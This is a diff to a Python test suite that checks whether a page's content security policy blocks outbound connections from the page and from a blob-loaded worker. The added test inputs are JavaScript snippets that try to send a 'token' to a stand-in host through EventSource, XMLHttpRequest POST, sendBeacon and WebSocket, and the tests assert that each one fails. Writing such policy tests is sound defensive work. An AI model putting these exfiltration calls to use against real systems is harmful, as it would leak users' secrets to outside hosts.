@@ -45,6 +45,11 @@ def test_nothing_is_sent_before_somebody_asks(playground: Playground, api: Api, 
         "import(HOST)",
         "new Promise((resolve, reject) => { const s = new WebSocket(HOST.replace('https', 'wss'));"
         " s.onopen = resolve; s.onerror = reject })",
+        "new Promise((resolve, reject) => Object.assign(new EventSource(HOST), {onopen: resolve, onerror: reject}))",
+        "new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open('POST', HOST);"
+        " x.onload = resolve; x.onerror = reject; x.send('token') })",
+        # Whether it was sent, a beacon does not tell: the violation and the stand-in do.
+        "Promise.reject(navigator.sendBeacon(HOST, 'token'))",
     ],
 )
 def test_the_policy_stops_what_the_page_has_no_reason_to_ask(started: Playground, api: Api, attempt: str) -> None:
@@ -60,9 +65,31 @@ def test_the_policy_stops_what_the_page_has_no_reason_to_ask(started: Playground
 
 
 def test_the_policy_holds_in_the_worker_too(started: Playground, api: Api) -> None:
+    """A worker that is loaded from a URL has the policy of its own response; ours is loaded from a blob, which inherits."""
     [worker] = started.page.workers
 
+    assert worker.url.startswith("blob:")
     assert worker.evaluate("host => fetch(host).then(() => true, () => false)", OTHER_HOST) is False
+    assert (
+        worker.evaluate(
+            """host => new Promise(resolve => {
+            Object.assign(new WebSocket(host.replace("https", "wss")), { onopen: () => resolve(true), onerror: () => resolve(false) });
+        })""",
+            OTHER_HOST,
+        )
+        is False
+    )
+    assert (
+        worker.evaluate(
+            """host => {
+            const request = new XMLHttpRequest();
+            request.open("POST", host, false);
+            try { request.send("token"); return request.status > 0; } catch { return false; }
+        }""",
+            OTHER_HOST,
+        )
+        is False
+    )
     assert api.received == []
 
 
